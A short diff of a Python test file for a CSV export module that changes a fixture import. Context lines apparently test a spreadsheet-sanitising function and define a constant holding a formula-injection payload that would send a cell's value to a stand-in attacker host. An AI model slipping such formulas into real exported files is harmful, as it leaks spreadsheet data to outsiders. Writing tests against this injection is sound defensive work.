@@ -9,7 +9,8 @@ import pytest
 
 from alliance.dataset import DatasetError, load_dataset
 from alliance.export import records_to_csv, spreadsheet_safe
-from tests.conftest import TINY_COMPANIES, write_dataset
+
+from .helpers import TINY_COMPANIES, write_dataset
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Anthropic")'
 
